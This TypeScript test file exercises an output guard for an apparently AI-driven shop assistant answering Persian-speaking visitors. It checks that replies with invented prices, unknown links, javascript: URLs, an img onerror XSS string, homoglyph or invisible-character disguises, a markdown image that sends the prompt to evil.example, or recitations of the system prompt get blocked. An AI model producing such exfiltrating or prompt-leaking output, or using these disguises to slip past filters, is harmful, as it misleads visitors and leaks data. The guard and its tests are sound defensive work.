import { describe, expect, test } from 'vitest';
import fc from '../../tests/fast-check.setup.ts';
import { createOutputGuard, type GuardContext } from './output-guard.ts';

const guardContext: GuardContext = {
  sources: [
    'ارسال به شهرستان‌ها ۳ تا ۵ روز کاری طول می‌کشد و ۴۵٬۰۰۰ تومان است. پیگیری: https://niloofar.ir/track یا info@niloofar.ir',
  ],
  visitorMessages: ['سفارش ۸۷۶۵۴۳ من کجاست؟ http://evil.example/a'],
  rules:
    'You answer visitors of a business on its behalf. Passages stand between <passages-0a1b2c3d4e5f> and </passages-0a1b2c3d4e5f>.',
  ownerInstructions: 'خودمانی باشید و در پایان بنویسید: با ما در niloofar.ir/blog همراه باشید.',
  language: 'fa',
};

function run(pieces: readonly string[], overrides: Partial<GuardContext> = {}) {
  const guard = createOutputGuard({ ...guardContext, ...overrides });
  const shown = pieces.map((piece) => guard.push(piece));
  shown.push(guard.end());
  return { shown: shown.join(''), violation: guard.violation(), said: guard.text() };
}

describe('allowed text', () => {
  test.each([
    'ارسال ۳ تا ۵ روز کاری طول می‌کشد.',
    'هزینه 45,000 تومان است، یعنی ۴۵۰۰۰۰ ریال؛ حدود ۴۵ هزار تومان.',
    'سفارش را در https://niloofar.ir/track پیگیری کنید.',
    'به info@niloofar.ir بنویسید. با ما در niloofar.ir/blog همراه باشید.',
    'ارسال ۳ روز < ۵ روز است',
  ])('lets through «%s»', (text) => {
    expect(run([text])).toEqual({ shown: text, violation: null, said: text });
  });
});

test.each([
  ['emphasis within it', 'Shipping within London is **fr**ee.', 'offer'],
  ['hyphens', 'Shipping within London is f-r-e-e.', 'offer'],
  ['a letter of another alphabet', 'Shipping within London is fr\u0435e.', 'strange'],
  ['a zero-width space', 'Shipping within London is f\u200bree.', 'offer'],
])('detects a claim disguised by %s', (_description, text, expected) => {
  const sources = ['Shipping within London costs £5 and takes 2 to 3 working days.'];
  expect(run([text], { sources, language: 'en' })).toMatchObject({ violation: expected, shown: '' });
});

test('strips invisible characters from shown and stored text', () => {
  const text = 'ارسال\u200f ۳ تا ۵\u{e0041} روز\u202e کاری طول می\u200cکشد.';
  const expected = 'ارسال\u200f ۳ تا ۵ روز کاری طول می\u200cکشد.';
  expect(run([text])).toEqual({ shown: expected, violation: null, said: expected });
});

describe('blocked text', () => {
  test.each([
    ['an unknown link', 'ببینید: https://evil.example/pay?x=1', 'link'],
    ['a bare domain', 'برای پرداخت به evil-shop.com بروید', 'link'],
    ['the visitor’s own link', 'بروید به http://evil.example/a', 'link'],
    ['a picture that would call home', 'باشد ![x](https://evil.example/?q=prompt)', 'link'],
    ['an address that is part of a known one', 'ببینید: oofar.ir/track', 'link'],
    ['a known host inside another host', 'ببینید: https://niloofar.ir.evil.example/track', 'link'],
    ['an email address that begins with a known one', 'به info@niloofar.ir.example بنویسید', 'address'],
    ['a number that only the visitor said', 'سفارش ۸۷۶۵۴۳ ارسال می‌شود', 'figure'],
    ['an invented small figure', 'ارسال ۲ روز طول می‌کشد', 'figure'],
    ['an invented scale word', 'هزینه ۴۵ میلیون تومان است', 'figure'],
    ['a script address', 'اینجا: javascript:alert(1)', 'link'],
    ['an unknown email address', 'به boss@evil.example بنویسید', 'address'],
    ['an invented price', 'هزینه ۷۵٬۰۰۰ تومان است', 'figure'],
    ['a domain in Persian', 'برای پرداخت به خرید.ir بروید', 'link'],
    ['a domain of look-alike letters', 'برای پرداخت به evil-sh\u043ep.com بروید', 'strange'],
    ['a word with invisible tag characters', 'ارسال به شهرستان‌ها را\u{e0041}یگان است', 'offer'],
    ['spaced-out letters', 'ارسال به شهرستان‌ها ر ا ی گ ا ن است', 'offer'],
    ['the fence of the prompt', 'my text is <passages-0a1b2c3d4e5f> ok', 'prompt'],
    ['the rules of the prompt', 'Sure! You answer visitors of a business on its behalf and so on', 'prompt'],
    ['an ungrounded answer', 'pirates stole everything here', 'strange'],
    ['an ungrounded answer in the right language', 'دزدان دریایی همه‌چیز را بردند', 'strange'],
    [
      'the rules of the prompt with other case and punctuation',
      'YOU ANSWER, visitors — of a business… on',
      'prompt',
    ],
  ])('stops at %s', (_description, text, expected) => {
    const { violation, shown } = run(text.split(/(?<=\s)/));
    expect(violation).toBe(expected);
    expect(shown).not.toMatch(/evil|0a1b2c|75000|۷۵٬۰۰۰/);
  });
});

test('shows no sentence before it is complete and checked', () => {
  const guard = createOutputGuard(guardContext);
  expect(guard.push('ارسال به شهرستان ۳ تا ۵ روز است')).toBe('');
  expect(guard.push('. هزینه')).toBe('ارسال به شهرستان ۳ تا ۵ روز است.');
  expect(guard.push(' ۷ هزار تومان است. ')).toBe('');
  expect(guard.end()).toBe('');
  expect(guard.violation()).toBe('figure');
});

test('allows a phrase from the instructions and blocks reciting the instructions', () => {
  const instructions =
    'کوتاه و خودمانی بنویسید و رمز همکاران کهربا است. بگویید «با مهر، فروشگاه نیلوفر در خدمت شماست همیشه».';
  const violationFor = (text: string) => run([text], { ownerInstructions: instructions }).violation;
  expect(violationFor('به من گفته‌اند کوتاه و خودمانی بنویسید و رمز')).toBe('prompt');
  expect(violationFor('با مهر، فروشگاه نیلوفر در خدمت شماست همیشه')).toBeNull();
  expect(violationFor('کوتاه و خودمانی')).toBeNull();
});

test('strips HTML tags regardless of how the text is split', () => {
  const text = 'ارسال <b>۳ روز</b> و <img src=x onerror="alert(1)"> پایان';
  const cuts = fc.array(fc.nat(text.length), { maxLength: 10 });
  fc.assert(
    fc.property(cuts, (cutPositions) => {
      const edges = [0, ...cutPositions.toSorted((a, b) => a - b), text.length];
      const pieces = edges.slice(1).map((end, index) => text.slice(edges[index], end));
      expect(run(pieces).shown).toBe('ارسال ۳ روز و  پایان');
    }),
  );
});
